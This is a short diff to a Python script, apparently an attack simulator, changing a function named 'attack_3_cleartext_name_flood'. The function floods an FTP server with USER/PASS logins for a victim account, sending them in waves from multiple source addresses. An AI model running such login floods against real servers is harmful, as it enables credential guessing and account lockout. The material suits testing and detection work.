@@ -344,7 +344,7 @@ def attack_3_cleartext_name_flood(target: Target, stop: threading.Event,
                 with socket.create_connection((target.host, target.ports["ftp"]), 30,
                                               source_address=(host, 0)) as conn:
                     conn.recv(1024)
-                    conn.sendall(f"USER {VICTIM}\r\nPASS random-{wave}-{i}\r\n".encode())
+                    conn.sendall(f"USER {VICTIM}\r\nPASS random-{wave}-{host}-{i}\r\n".encode())
                     conn.settimeout(30)
                     while conn.recv(1024):
                         pass
